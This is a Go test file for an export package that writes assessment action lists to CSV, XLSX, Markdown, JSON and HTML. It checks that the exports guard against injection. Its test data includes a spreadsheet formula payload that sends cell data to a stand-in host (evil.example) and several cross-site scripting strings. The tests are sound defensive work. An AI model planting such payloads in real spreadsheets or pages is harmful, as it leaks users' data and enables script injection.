package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"wgll/model"
)

func TestGoldenFiles(t *testing.T) {
	a := fixture()
	rows := ActionRows(a, Filter{}, fixedNow)
	tests := []struct {
		name  string
		write func(*bytes.Buffer) error
	}{
		{"actions.csv", func(b *bytes.Buffer) error { return WriteCSV(b, rows) }},
		{"actions.md", func(b *bytes.Buffer) error { return WriteMarkdown(b, rows) }},
		{"actions.json", func(b *bytes.Buffer) error { return WriteJSON(b, rows) }},
		{"actions.xlsx.txt", func(b *bytes.Buffer) error {
			var x bytes.Buffer
			warns, err := WriteXLSX(&x, a, rows, fixedNow)
			if err != nil {
				return err
			}
			if len(warns) > 0 {
				return fmt.Errorf("unexpected warnings: %q", warns)
			}
			return dumpXLSX(b, x.Bytes())
		}},
		{"report.md", func(b *bytes.Buffer) error { return WriteReportMarkdown(b, a, fixedNow) }},
		{"report.html", func(b *bytes.Buffer) error { return WriteReportHTML(b, a, fixedNow) }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := tt.write(&b); err != nil {
				t.Fatal(err)
			}
			golden(t, tt.name, b.Bytes())
		})
	}
}

// dumpXLSX writes every sheet's cells as text, one row per line with cells
// separated by " ¦ ", with newlines shown as ⏎: the golden form of a workbook.
func dumpXLSX(w *bytes.Buffer, data []byte) error {
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		return err
	}
	defer f.Close()
	for _, sh := range f.GetSheetList() {
		rows, err := f.GetRows(sh)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "== %s\n", sh)
		for _, r := range rows {
			fmt.Fprintln(w, strings.ReplaceAll(strings.Join(r, " ¦ "), "\n", "⏎"))
		}
	}
	return nil
}

func TestActionRowsFilterAndOrder(t *testing.T) {
	a := fixture()
	tests := []struct {
		name string
		f    Filter
		want []int64
	}{
		// Measure order (well-led, smart-foundations, empower-people), then
		// due date with undated last, then id.
		{"all", Filter{}, []int64{6, 2, 3, 1, 5, 4}},
		{"live", Filter{Statuses: []model.ActionStatus{model.StatusOpen, model.StatusInProgress}}, []int64{6, 2, 3, 1}},
		{"done", Filter{Statuses: []model.ActionStatus{model.StatusDone}}, []int64{4}},
		{"owner ignores case and spaces", Filter{Owner: " ZOË ÅNGSTRÖM"}, []int64{6, 1}},
		{"measure", Filter{Measure: "smart-foundations"}, []int64{1, 5}},
		{"overdue", Filter{Overdue: true}, []int64{6, 1}},
		{"overdue and measure", Filter{Overdue: true, Measure: "well-led"}, []int64{6}},
		{"nothing", Filter{Owner: "nobody"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []int64
			for _, r := range ActionRows(a, tt.f, fixedNow) {
				got = append(got, r.ActionID)
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("got actions %v, want %v", got, tt.want)
			}
		})
	}
	rows := ActionRows(a, Filter{}, fixedNow)
	if r := rows[0]; r.DaysOverdue != 14 || r.Measure != "Well led" || r.StatementID != "WL-O1" || r.Assessment != a.Title() {
		t.Errorf("first row = %+v", r)
	}
	if r := rows[3]; r.DaysOverdue != 43 {
		t.Errorf("action 1 is %d days overdue, want 43", r.DaysOverdue)
	}
}

func TestParseStatuses(t *testing.T) {
	tests := []struct {
		in      string
		want    []model.ActionStatus
		wantErr string
	}{
		{"", nil, ""},
		{"open", []model.ActionStatus{model.StatusOpen}, ""},
		{" Open , in-progress,open", []model.ActionStatus{model.StatusOpen, model.StatusInProgress}, ""},
		{"open,closed", nil, `unknown status "closed"; use one or more of open, in-progress, done, dropped`},
	}
	for _, tt := range tests {
		got, err := ParseStatuses(tt.in)
		if tt.wantErr != "" {
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("ParseStatuses(%q) error = %v, want %q", tt.in, err, tt.wantErr)
			}
			continue
		}
		if err != nil || !slices.Equal(got, tt.want) {
			t.Errorf("ParseStatuses(%q) = %v, %v; want %v", tt.in, got, err, tt.want)
		}
	}
}

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=SUM(A1:A9)", "'=SUM(A1:A9)"},
		{"+44 20 7946 0000", "'+44 20 7946 0000"},
		{"-2+3", "'-2+3"},
		{"@cmd", "'@cmd"},
		{"\tTab", "'\tTab"},
		{"\rCR", "'\rCR"},
		{"\x00nul", "'\x00nul"},
		{"a=b", "a=b"},
		{" =x", " =x"},
		{"'=x", "'=x"},
		{"£5", "£5"},
	}
	for _, tt := range tests {
		if got := SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// triggers are the first characters that make a spreadsheet cell a formula.
var triggers = []string{"=", "+", "-", "@", "\t", "\r", "\x00"}

func startsWithTrigger(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r\x00", rune(s[0]))
}

// TestFormulaInjection puts a formula into every text field an export shows
// and checks that no CSV or XLSX cell starts with a trigger, and that
// removing the guard gives back the original text.
func TestFormulaInjection(t *testing.T) {
	fields := []struct {
		name string
		set  func(a *model.Assessment, s string)
	}{
		{"title", func(a *model.Assessment, s string) { setAction(a, 1, func(x *model.Action) { x.Title = s }) }},
		{"owner", func(a *model.Assessment, s string) { setAction(a, 1, func(x *model.Action) { x.Owner = s }) }},
		{"statement text", func(a *model.Assessment, s string) { a.Criteria.Measures[1].Statements[0].Text = s }},
		{"statement id", func(a *model.Assessment, s string) {
			a.Criteria.Measures[1].Statements[0].ID = s
			a.Actions[s] = a.Actions["SF-O1"]
			delete(a.Actions, "SF-O1")
		}},
		{"measure name", func(a *model.Assessment, s string) { a.Criteria.Measures[1].Name = s }},
		{"organisation", func(a *model.Assessment, s string) { a.Organisation = s }},
		{"period", func(a *model.Assessment, s string) { a.Period = s }},
	}
	for _, fld := range fields {
		for _, trig := range triggers {
			payload := trig + `HYPERLINK("http://evil.example/?x="&A1,"click")`
			t.Run(fmt.Sprintf("%s/%q", fld.name, trig), func(t *testing.T) {
				a := fixture()
				fld.set(a, payload)
				rows := ActionRows(a, Filter{}, fixedNow)

				var c bytes.Buffer
				if err := WriteCSV(&c, rows); err != nil {
					t.Fatal(err)
				}
				recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.Bytes(), []byte("\uFEFF")))).ReadAll()
				if err != nil {
					t.Fatalf("re-read CSV: %v", err)
				}
				checkCells(t, "CSV", recs, payload)

				var x bytes.Buffer
				if _, err := WriteXLSX(&x, a, rows, fixedNow); err != nil {
					t.Fatal(err)
				}
				// XML cannot hold NUL; excelize writes U+FFFD instead.
				want := strings.ReplaceAll(payload, "\x00", "\uFFFD")
				for _, sheet := range []string{actionsSheet, summarySheet} {
					checkXLSXCells(t, x.Bytes(), sheet, want)
				}
			})
		}
	}
}

// checkCells fails if any cell starts with a formula trigger, and unless
// some cell, unguarded, equals want (when want is not empty).
func checkCells(t *testing.T, what string, recs [][]string, want string) {
	t.Helper()
	found := false
	for _, r := range recs {
		for _, cell := range r {
			if startsWithTrigger(cell) {
				t.Errorf("%s: cell %q starts with a formula trigger", what, cell)
			}
			// Organisation and period appear inside the assessment title.
			if strings.Contains(unguard(cell), want) {
				found = true
			}
		}
	}
	if !found && want != "" {
		// The summary sheet shows measures and organisation but not every field.
		if what == "XLSX "+summarySheet {
			return
		}
		t.Errorf("%s: no cell gives back %q after removing the guard", what, want)
	}
}

// checkXLSXCells fails unless every cell of sheet that starts with a
// formula trigger is a string cell marked with the quotePrefix attribute
// (Excel's own guard, with no visible apostrophe), no cell shows the CSV's
// apostrophe, and (on the Actions sheet) some cell holds want exactly as
// typed.
func checkXLSXCells(t *testing.T, data []byte, sheet, want string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("re-open XLSX: %v", err)
	}
	defer f.Close()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for ri, r := range rows {
		for ci, cell := range r {
			name := cellName(ci+1, ri+1)
			if strings.HasPrefix(cell, "'") && startsWithTrigger(cell[1:]) {
				t.Errorf("XLSX %s!%s shows the apostrophe guard: %q", sheet, name, cell)
			}
			if strings.Contains(cell, want) {
				found = true
			}
			if !startsWithTrigger(cell) {
				continue
			}
			if formula, _ := f.GetCellFormula(sheet, name); formula != "" {
				t.Errorf("XLSX %s!%s is a formula %q", sheet, name, formula)
			}
			if typ, _ := f.GetCellType(sheet, name); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("XLSX %s!%s starts with a trigger but is not a string cell (%v)", sheet, name, typ)
			}
			id, _ := f.GetCellStyle(sheet, name)
			if xf := f.Styles.CellXfs.Xf[id]; xf.QuotePrefix == nil || !*xf.QuotePrefix {
				t.Errorf("XLSX %s!%s (%q) lacks the quotePrefix attribute", sheet, name, cell)
			}
		}
	}
	if !found && sheet == actionsSheet {
		t.Errorf("XLSX %s: no cell holds %q as typed", sheet, want)
	}
}

func setAction(a *model.Assessment, id int64, f func(*model.Action)) {
	for sid, list := range a.Actions {
		for i := range list {
			if list[i].ID == id {
				f(&a.Actions[sid][i])
			}
		}
	}
}

func readSheet(t *testing.T, data []byte, sheet string) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("re-open XLSX: %v", err)
	}
	defer f.Close()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatalf("read sheet %s: %v", sheet, err)
	}
	return rows
}

// hostile is text that tries to break every format.
const hostile = "a | b \\| c\r\nline two\n<script>alert('x')</script> & `code` *bold* [link](http://x) ~~s~~ # h \"quoted\", comma"

func TestCSVFormatAndRoundTrip(t *testing.T) {
	a := fixture()
	setAction(a, 2, func(x *model.Action) { x.Title = hostile; x.Owner = "  padded owner  " })
	rows := ActionRows(a, Filter{}, fixedNow)
	var b bytes.Buffer
	if err := WriteCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	data := b.Bytes()
	if !bytes.HasPrefix(data, []byte("\xEF\xBB\xBF")) {
		t.Errorf("CSV does not start with a UTF-8 byte order mark")
	}
	if !bytes.HasSuffix(data, []byte("\r\n")) || bytes.Count(data, []byte("\r\n")) < len(rows)+1 {
		t.Errorf("CSV lines do not end with CRLF")
	}
	r := csv.NewReader(bytes.NewReader(data[3:]))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("re-read CSV: %v", err)
	}
	if len(recs) != len(rows)+1 {
		t.Fatalf("CSV has %d records, want %d", len(recs), len(rows)+1)
	}
	if !slices.Equal(recs[0], actionHeaders) {
		t.Errorf("header = %q", recs[0])
	}
	for i, row := range rows {
		want := row.textCells()
		// encoding/csv turns CRLF inside a quoted field into LF.
		for j := range want {
			want[j] = strings.ReplaceAll(want[j], "\r\n", "\n")
		}
		got := recs[i+1]
		for j := range got {
			got[j] = unguard(got[j])
		}
		if !slices.Equal(got, want) {
			t.Errorf("record %d:\n got %q\nwant %q", i+1, got, want)
		}
	}
}

func TestXLSXStructure(t *testing.T) {
	a := fixture()
	rows := ActionRows(a, Filter{}, fixedNow)
	var b bytes.Buffer
	if _, err := WriteXLSX(&b, a, rows, fixedNow); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !slices.Equal(got, []string{actionsSheet, summarySheet}) {
		t.Errorf("sheets = %q", got)
	}
	for _, sh := range []string{actionsSheet, summarySheet} {
		p, err := f.GetPanes(sh)
		if err != nil || !p.Freeze || p.YSplit != 1 {
			t.Errorf("%s: header row not frozen: %+v %v", sh, p, err)
		}
		id, _ := f.GetCellStyle(sh, "A1")
		st, err := f.GetStyle(id)
		if err != nil || st.Font == nil || !st.Font.Bold {
			t.Errorf("%s: header not bold", sh)
		}
	}
	filtered := false
	for _, d := range f.GetDefinedName() {
		if d.Name == "_xlnm._FilterDatabase" && strings.Contains(d.RefersTo, "$A$1:$M$7") {
			filtered = true
		}
	}
	if !filtered {
		t.Errorf("no autofilter over A1:M7: %+v", f.GetDefinedName())
	}
	// Due (column H) of the first row is a real date with a date format.
	raw, _ := f.GetCellValue(actionsSheet, "H2", excelize.Options{RawCellValue: true})
	if raw != "46082" { // 2026-03-01 as an Excel serial day
		t.Errorf("due cell raw value = %q, want the serial date 46082", raw)
	}
	shown, _ := f.GetCellValue(actionsSheet, "H2")
	if shown != "2026-03-01" {
		t.Errorf("due cell shows %q, want 2026-03-01", shown)
	}
	if typ, _ := f.GetCellType(actionsSheet, "M2"); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
		t.Errorf("days overdue is stored as text")
	}
	w, _ := f.GetColWidth(actionsSheet, "F")
	if w < 20 || w > 62 {
		t.Errorf("action column width = %v, want between 20 and 62", w)
	}
	// The undated action leaves its due cell empty.
	for i, r := range rows {
		if r.Due.IsZero() {
			if v, _ := f.GetCellValue(actionsSheet, cellName(8, i+2)); v != "" {
				t.Errorf("undated action has due %q", v)
			}
		}
	}
	sum, _ := f.GetRows(summarySheet)
	if len(sum) < 5 || sum[1][0] != "well-led" || sum[4][1] != "Overall" {
		t.Errorf("summary rows = %q", sum)
	}
	if got := sum[1][5]; got != "3.0" { // well-led: WL-O1 4, WL-O2 2; one decimal as everywhere
		t.Errorf("well-led mean shows %q, want 3.0", got)
	}
	if got := sum[4][5]; got != "3.3" { // overall 3.33, shown and stored as 3.3
		t.Errorf("overall mean shows %q, want 3.3", got)
	}
	// Printable: A4 landscape, one page wide, the header row on every page.
	for _, sh := range []string{actionsSheet, summarySheet} {
		pl, err := f.GetPageLayout(sh)
		if err != nil || pl.Size == nil || *pl.Size != 9 || pl.Orientation == nil || *pl.Orientation != "landscape" ||
			pl.FitToWidth == nil || *pl.FitToWidth != 1 || pl.FitToHeight == nil || *pl.FitToHeight != 0 {
			t.Errorf("%s page layout = %+v, %v; want A4 landscape, one page wide", sh, pl, err)
		}
		props, _ := f.GetSheetProps(sh)
		if props.FitToPage == nil || !*props.FitToPage {
			t.Errorf("%s does not fit to the page", sh)
		}
		titled := false
		for _, d := range f.GetDefinedName() {
			if d.Name == "_xlnm.Print_Titles" && d.Scope == sh && strings.HasSuffix(d.RefersTo, "!$1:$1") {
				titled = true
			}
		}
		if !titled {
			t.Errorf("%s does not repeat its header row on printed pages: %+v", sh, f.GetDefinedName())
		}
	}
	// Long columns wrap; the statement column is no wider than it must be.
	for _, c := range []string{"E2", "F2"} {
		id, _ := f.GetCellStyle(actionsSheet, c)
		st, _ := f.GetStyle(id)
		if st == nil || st.Alignment == nil || !st.Alignment.WrapText {
			t.Errorf("%s does not wrap", c)
		}
	}
	if w, _ := f.GetColWidth(actionsSheet, "E"); w > 40 {
		t.Errorf("statement column is %v wide; it wraps, so at most 40 keeps the sheet one page wide", w)
	}
}

func TestXLSXLongCellWarns(t *testing.T) {
	tests := []struct {
		name   string
		text   string
		warned bool
	}{
		{"at the limit", strings.Repeat("a", MaxCellChars), false},
		{"one over", strings.Repeat("b", MaxCellChars+1), true},
		{"40,000 characters", strings.Repeat("£", 40000), true},
		{"emoji count twice", strings.Repeat("😀", MaxCellChars/2+1), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := fixture()
			setAction(a, 4, func(x *model.Action) { x.Title = tt.text })
			rows := ActionRows(a, Filter{Statuses: []model.ActionStatus{model.StatusDone}}, fixedNow)
			var b bytes.Buffer
			warns, err := WriteXLSX(&b, a, rows, fixedNow)
			if err != nil {
				t.Fatal(err)
			}
			if got := len(warns) == 1; got != tt.warned {
				t.Fatalf("warnings = %q, want a warning: %v", warns, tt.warned)
			}
			cell := readSheet(t, b.Bytes(), actionsSheet)[1][5]
			if n := utf16Len(cell); n > MaxCellChars {
				t.Errorf("cell holds %d UTF-16 units, more than %d", n, MaxCellChars)
			}
			if !tt.warned {
				if cell != tt.text {
					t.Errorf("text within the limit was changed")
				}
				return
			}
			if !strings.Contains(warns[0], "action 4") || !strings.Contains(warns[0], "cut") {
				t.Errorf("warning %q does not say which action was cut", warns[0])
			}
			if !strings.HasSuffix(cell, fmt.Sprintf("[cut: the full text has %d characters]", utf16Len(tt.text))) {
				t.Errorf("cut cell does not end with a note: …%q", cell[len(cell)-60:])
			}
			if !strings.HasPrefix(tt.text, strings.TrimSuffix(cell[:len(cell)-60], "")) {
				t.Errorf("cut cell is not a prefix of the text")
			}
		})
	}
}

// mdTables splits Markdown into tables and returns, per table, the number
// of cells in each row (header, delimiter and body).
func mdTables(md string) [][]int {
	var tables [][]int
	var cur []int
	for _, line := range strings.Split(md, "\n") {
		if !strings.HasPrefix(line, "|") {
			if cur != nil {
				tables = append(tables, cur)
				cur = nil
			}
			continue
		}
		cur = append(cur, countCells(line))
	}
	if cur != nil {
		tables = append(tables, cur)
	}
	return tables
}

// countCells counts the cells of a table row the way CommonMark does: a
// pipe preceded by a backslash is text.
func countCells(line string) int {
	pipes := 0
	for i := 0; i < len(line); i++ {
		switch line[i] {
		case '\\':
			i++
		case '|':
			pipes++
		}
	}
	return pipes - 1
}

func TestMarkdownHostileText(t *testing.T) {
	a := fixture()
	for _, id := range []int64{1, 2, 3, 4, 5, 6} {
		setAction(a, id, func(x *model.Action) { x.Title = hostile; x.Owner = "|owner|\n" })
	}
	a.Criteria.Measures[0].Name = "Well | led\n<b>"
	a.Criteria.Measures[0].Statements[0].Text = hostile
	rows := ActionRows(a, Filter{}, fixedNow)
	var b bytes.Buffer
	if err := WriteMarkdown(&b, rows); err != nil {
		t.Fatal(err)
	}
	md := b.String()
	tables := mdTables(md)
	if len(tables) != 3 {
		t.Fatalf("got %d tables, want one per measure (3):\n%s", len(tables), md)
	}
	body := 0
	for i, tbl := range tables {
		for j, n := range tbl {
			if n != 7 {
				t.Errorf("table %d row %d has %d cells, want 7", i, j, n)
			}
		}
		body += len(tbl) - 2
	}
	if body != len(rows) {
		t.Errorf("tables hold %d rows, want %d", body, len(rows))
	}
	if strings.Contains(md, "<script") || strings.Contains(md, "<b>") {
		t.Errorf("Markdown lets HTML through:\n%s", md)
	}
	if !strings.Contains(md, "## Well \\| led &lt;b&gt;\n") {
		t.Errorf("measure heading not escaped onto one line:\n%s", md)
	}

	// The report's tables hold their shape too.
	b.Reset()
	if err := WriteReportMarkdown(&b, a, fixedNow); err != nil {
		t.Fatal(err)
	}
	for i, tbl := range mdTables(b.String()) {
		for j, n := range tbl[1:] {
			if n != tbl[0] {
				t.Errorf("report table %d row %d has %d cells, header has %d", i, j+1, n, tbl[0])
			}
		}
	}
	if strings.Contains(b.String(), "<script") {
		t.Errorf("report Markdown lets <script> through")
	}
}

func TestReportHTMLIsSafe(t *testing.T) {
	a := fixture()
	a.Organisation = `<script>alert("org")</script>`
	setAction(a, 1, func(x *model.Action) { x.Title = "<img src=x onerror=alert(1)>"; x.Owner = "</td></tr></table>" })
	a.Criteria.Measures[1].Name = "<style>body{display:none}</style>"
	a.PutEvidence(model.Evidence{ID: 9, StatementID: "SF-O2", Title: "<iframe>", Link: `https://x.example/"><script>alert(1)</script>`})
	a.PutEvidence(model.Evidence{ID: 10, StatementID: "SF-O2", Title: "data", Link: "data:text/html;base64,PHNjcmlwdD4="})
	var b bytes.Buffer
	if err := WriteReportHTML(&b, a, fixedNow); err != nil {
		t.Fatal(err)
	}
	h := b.String()
	for _, bad := range []string{"<script", "<img", "<iframe", "</td></tr></table>", "<style>body", `href="javascript:`, `href="data:`, "<link", "@import", "url("} {
		if strings.Contains(strings.ToLower(h), strings.ToLower(bad)) {
			t.Errorf("HTML report contains %q", bad)
		}
	}
	for _, want := range []string{"&lt;script&gt;alert(&#34;org&#34;)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;", `<a href="https://example.nhs.uk/board/2026-03?item=7&amp;part=2">`, "javascript:alert(1)</td>"} {
		if !strings.Contains(h, want) {
			t.Errorf("HTML report lacks %q", want)
		}
	}
	if loads := regexp.MustCompile(`<[a-zA-Z][^>]*\s(src|srcset|action|formaction)=`).FindString(h); loads != "" {
		t.Errorf("HTML report loads something: %s", loads)
	}
	if strings.Count(h, "<table") != strings.Count(h, "</table>") {
		t.Errorf("unbalanced tables")
	}
}

func TestReportGaps(t *testing.T) {
	a := fixture()
	r := buildReport(a, fixedNow)
	var got []string
	for _, g := range r.Gaps {
		got = append(got, fmt.Sprintf("%s:%d", g.StatementID, g.Gap))
	}
	// SF-O1 scored 1 (gap 4), WL-O2 2 (3), SF-O2 3 (2), WL-O1 4 (1);
	// EP-O1 is at the top level; then the unassessed, in framework order.
	want := []string{"SF-O1:4", "WL-O2:3", "SF-O2:2", "WL-O1:1", "WL-O3:-1", "EP-O2:-1"}
	if !slices.Equal(got, want) {
		t.Errorf("gaps = %v, want %v", got, want)
	}
	if len(r.Measures) != 3 || ids(r.Measures[0].Strongest) != "WL-O1 (4)" || ids(r.Measures[0].Weakest) != "WL-O2 (2)" {
		t.Errorf("well-led strongest/weakest = %q / %q", ids(r.Measures[0].Strongest), ids(r.Measures[0].Weakest))
	}

	// Only the ten largest are listed.
	big := fixture()
	m := &big.Criteria.Measures[0]
	for i := range 12 {
		id := fmt.Sprintf("WL-O%d", 10+i)
		m.Statements = append(m.Statements, m.Statements[0])
		m.Statements[len(m.Statements)-1].ID = id
		big.PutResponse(model.Response{StatementID: id, Score: 2})
	}
	if n := len(buildReport(big, fixedNow).Gaps); n != GapLimit {
		t.Errorf("listed %d gaps, want %d", n, GapLimit)
	}
}

func TestJSONIsLossless(t *testing.T) {
	a := fixture()
	setAction(a, 2, func(x *model.Action) { x.Title = hostile + strings.Repeat("x", 40000) })
	rows := ActionRows(a, Filter{}, fixedNow)
	var b bytes.Buffer
	if err := WriteJSON(&b, rows); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Schema  string           `json:"schema"`
		Actions []map[string]any `json:"actions"`
	}
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Schema != JSONSchema || len(doc.Actions) != len(rows) {
		t.Fatalf("schema %q with %d actions", doc.Schema, len(doc.Actions))
	}
	for i, r := range rows {
		j := doc.Actions[i]
		created, err := time.Parse(time.RFC3339Nano, j["created_at"].(string))
		if err != nil || !created.Equal(r.Created) {
			t.Errorf("action %d created_at %v does not give back %v", r.ActionID, j["created_at"], r.Created)
		}
		if j["title"] != r.Action || j["owner"] != r.Owner || j["statement"] != r.Statement || j["measure_key"] != r.MeasureKey {
			t.Errorf("action %d text changed", r.ActionID)
		}
		if r.Due.IsZero() != (j["due"] == nil) || (!r.Due.IsZero() && j["due"] != model.FormatDate(r.Due)) {
			t.Errorf("action %d due = %v, want %v", r.ActionID, j["due"], r.Due)
		}
		if int(j["days_overdue"].(float64)) != r.DaysOverdue || j["overdue"] != (r.DaysOverdue > 0) {
			t.Errorf("action %d overdue fields wrong", r.ActionID)
		}
	}
	b.Reset()
	if err := WriteJSON(&b, nil); err != nil || !strings.Contains(b.String(), `"actions": []`) {
		t.Errorf("empty list = %q, %v; want actions: []", b.String(), err)
	}
}

func TestWriteFileAtomic(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "actions.csv")
	if err := os.WriteFile(path, []byte("old"), 0o640); err != nil {
		t.Fatal(err)
	}
	failing := func(w io.Writer) error {
		w.Write([]byte("half"))
		return fmt.Errorf("disk on fire")
	}
	err := WriteFileAtomic(path, func(w io.Writer) error { return failing(w) })
	if err == nil || !strings.Contains(err.Error(), "disk on fire") {
		t.Errorf("error = %v, want the write func's error", err)
	}
	checkFile(t, path, "old")
	checkNoTemp(t, dir)

	if err := WriteFileAtomic(path, func(w io.Writer) error { _, err := w.Write([]byte("new")); return err }); err != nil {
		t.Fatal(err)
	}
	checkFile(t, path, "new")
	checkNoTemp(t, dir)
	if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o640 {
		t.Errorf("mode = %v, want the old file's 0640", fi.Mode().Perm())
	}

	// Impossible paths fail with a clear error and touch nothing.
	notDir := filepath.Join(dir, "actions.csv", "x.csv")
	if err := WriteFileAtomic(notDir, func(io.Writer) error { return nil }); err == nil || !strings.Contains(err.Error(), "cannot create a file") {
		t.Errorf("write under a file: error = %v", err)
	}
	if err := WriteFileAtomic(dir, func(io.Writer) error { return nil }); err == nil || !strings.Contains(err.Error(), "folder") {
		t.Errorf("write to a folder: error = %v", err)
	}
	checkFile(t, path, "new")

	t.Run("folder not writable", func(t *testing.T) {
		if os.Geteuid() == 0 {
			t.Skip("root can write to a read-only folder")
		}
		ro := t.TempDir()
		p := filepath.Join(ro, "report.html")
		os.WriteFile(p, []byte("kept"), 0o644)
		os.Chmod(ro, 0o555)
		t.Cleanup(func() { os.Chmod(ro, 0o755) })
		if err := WriteFileAtomic(p, func(w io.Writer) error { return nil }); err == nil || !strings.Contains(err.Error(), "can you write to it") {
			t.Errorf("error = %v", err)
		}
		checkFile(t, p, "kept")
	})
}

func checkFile(t *testing.T, path, want string) {
	t.Helper()
	got, err := os.ReadFile(path)
	if err != nil || string(got) != want {
		t.Errorf("%s holds %q (%v), want %q", path, got, err, want)
	}
}

func checkNoTemp(t *testing.T, dir string) {
	t.Helper()
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		if strings.Contains(e.Name(), ".tmp-") {
			t.Errorf("temporary file %s left behind", e.Name())
		}
	}
}

func TestReportMarkdownHostileHeaderAndGrid(t *testing.T) {
	a := fixture()
	a.Organisation = "Trust\n# injected | <script>"
	a.Period = "2026\n---"
	a.Criteria.Measures[2].Name = "```\nEscaped fence"
	var b bytes.Buffer
	if err := WriteReportMarkdown(&b, a, fixedNow); err != nil {
		t.Fatal(err)
	}
	md := b.String()
	for _, line := range strings.Split(md, "\n") {
		if strings.HasPrefix(line, "# injected") || line == "---" || strings.Contains(line, "<script") {
			t.Errorf("hostile text escaped its place: %q", line)
		}
	}
	// The heatmap grid's fence is longer than any backtick run inside it.
	start := strings.Index(md, "## Heatmap\n\n")
	if start < 0 {
		t.Fatal("no heatmap section")
	}
	grid := md[start+len("## Heatmap\n\n"):]
	fence := grid[:strings.Index(grid, "text\n")]
	if len(fence) < 4 || strings.Trim(fence, "`") != "" {
		t.Fatalf("fence = %q, want four or more backticks", fence)
	}
	body := grid[len(fence)+len("text\n"):]
	end := strings.Index(body, "\n"+fence+"\n")
	if end < 0 || strings.Count(body[:end], "\n") != 4 {
		t.Errorf("grid is not a header and four rows inside its fence:\n%s", grid)
	}
	if !strings.Contains(body[:end], "``` Escaped fence") {
		t.Errorf("measure name not flattened onto its grid line:\n%s", body[:end])
	}
}

func TestNeedsQuotes(t *testing.T) {
	for _, tt := range []struct {
		in   string
		want bool
	}{
		{"", false}, {"plain", false}, {"a,b", true}, {`say "hi"`, true}, {"two\nlines", true}, {"cr\r", true},
		{" lead", true}, {"trail ", true}, {"\u00a0nbsp", true}, {"inner space", false}, {"£5 café", false},
	} {
		if got := needsQuotes(tt.in, false); got != tt.want || got != (strings.ContainsAny(tt.in, ",\"\r\n") || strings.TrimSpace(tt.in) != tt.in) {
			t.Errorf("needsQuotes(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}
